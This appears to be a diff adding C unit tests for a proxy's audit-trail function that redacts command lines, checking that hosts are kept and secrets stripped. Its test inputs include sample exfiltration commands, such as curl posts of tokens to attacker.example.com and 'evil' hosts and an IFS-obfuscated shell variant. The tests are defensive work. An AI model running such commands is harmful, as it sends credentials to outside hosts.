@@ -1,0 +1,76 @@
+/* Unit tests of the command-line redaction the audit trail applies
+ * (proxy/redact.c): what is kept, and that no secret survives. */
+#include "unit.h"
+
+#include <string.h>
+
+#include "proxy/bypass.h"
+
+static void expect(const char *in, const char *want)
+{
+    char out[512];
+    px_cmdline_redact(in, out, sizeof out);
+    if (strcmp(out, want) != 0)
+        fail_msg("redact(%s)\n  got  %s\n  want %s", in, out, want);
+}
+
+static void keeps_what_an_auditor_needs(void **state)
+{
+    (void)state;
+    expect("curl -sS -X POST https://attacker.example.com/exfil -d diag=s3cr3t",
+           "curl -sS -X <redacted> https://attacker.example.com<redacted> -d <redacted>");
+    expect("curl --url=https://evil.example:8443/p?q=1", "curl --url=https://evil.example:8443<redacted>");
+    expect("node /app/agent.js", "node <redacted>");
+    expect("git push origin main", "git <redacted> <redacted> <redacted>");
+    expect("/usr/bin/python3", "/usr/bin/python3");
+    expect("  curl   -v   http://h/  ", "curl -v http://h<redacted>");
+    expect("", "");
+}
+
+static void no_secret_survives(void **state)
+{
+    (void)state;
+    static const char *const cases[] = {
+        "curl -d token=SECRET https://evil/",
+        "curl -dSECRET https://evil/",
+        "curl --data=SECRET https://evil/",
+        "curl -H Authorization:SECRET https://evil/",
+        "curl https://user:SECRET@evil.example/x",
+        "curl --url=https://user:SECRET@evil.example/x",
+        "curl token=SECRET://x",
+        "curl --data=SECRETx://h",
+        "curl --SECRET_TOKEN_VALUE",
+        "curl -SECRET",
+        "sh -c curl${IFS}-dSECRET",
+        "env TOKEN=SECRET curl https://evil/",
+        "curl https://evil/?token=SECRET",
+        "curl https://evil/#SECRET",
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
+        char out[512];
+        px_cmdline_redact(cases[i], out, sizeof out);
+        if (strstr(out, "SECRET"))
+            fail_msg("the secret survives: %s -> %s", cases[i], out);
+    }
+}
+
+static void always_terminated(void **state)
+{
+    (void)state;
+    char out[16];
+    px_cmdline_redact("curl https://a-very-long-host-name.example/ -d x", out, sizeof out);
+    assert_int_equal(strlen(out), sizeof out - 1);
+    char one[1];
+    px_cmdline_redact("curl", one, sizeof one);
+    assert_int_equal(one[0], '\0');
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(keeps_what_an_auditor_needs),
+        cmocka_unit_test(no_secret_survives),
+        cmocka_unit_test(always_terminated),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
